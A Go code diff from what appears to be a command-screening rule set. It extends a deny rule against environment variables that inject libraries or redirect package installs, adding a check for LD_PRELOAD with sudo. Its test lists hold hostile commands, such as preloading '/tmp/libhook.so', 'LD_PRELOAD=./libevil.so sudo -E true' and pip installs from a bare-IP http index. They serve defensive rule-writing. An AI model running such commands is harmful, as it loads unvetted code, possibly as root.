@@ -78,12 +78,16 @@ func downgradeRules() []Rule {
 		{ID: "core.local:env-downgrade-deny", Mode: Deny, Tools: shellTools,
 			Desc: "Environment that loads code from a scratch directory into a command (LD_PRELOAD=/tmp/…, DYLD_INSERT_LIBRARIES, BASH_ENV) or points installs at a plain-http index on a bare public IP; the variables are data (callfacts/downgrade.txt)",
 			Match: func(e *Env) string {
-				if lv, n, v := callfacts.EnvDowngrade(e.F.Command); lv == "deny" {
+				lv, n, v := callfacts.EnvDowngrade(e.F.Command)
+				if lv == "deny" {
 					return n + "=" + v + " makes the command load or install what nobody vouches for"
+				}
+				if lv == "ask" && (n == "LD_PRELOAD" || n == "DYLD_INSERT_LIBRARIES") && e.F.HasCmd("sudo", "doas", "pkexec", "su", "run0") {
+					return n + "=" + v + " loads a library into a command run as root"
 				}
 				return ""
 			},
-			Catch: []string{"LD_PRELOAD=/tmp/libhook.so ls", "npm_config_registry=http://198.51.100.23:4873 npm install", "DYLD_INSERT_LIBRARIES=/var/tmp/x.dylib /Applications/App.app/Contents/MacOS/App", "export BASH_ENV=/tmp/.e; bash build.sh", "PIP_INDEX_URL=http://203.0.113.9/simple pip install x"},
+			Catch: []string{"LD_PRELOAD=/tmp/libhook.so ls", "npm_config_registry=http://198.51.100.23:4873 npm install", "DYLD_INSERT_LIBRARIES=/var/tmp/x.dylib /Applications/App.app/Contents/MacOS/App", "export BASH_ENV=/tmp/.e; bash build.sh", "PIP_INDEX_URL=http://203.0.113.9/simple pip install x", "LD_PRELOAD=./libevil.so sudo -E true"},
 			Allow: []string{"LD_PRELOAD=/usr/lib/x86_64-linux-gnu/libjemalloc.so.2 ./server", "npm_config_registry=http://localhost:4873 npm install", "LD_LIBRARY_PATH=./build/lib ./build/test", "BASH_ENV=./ci/env.sh bash ci/test.sh"}},
 	}
 }
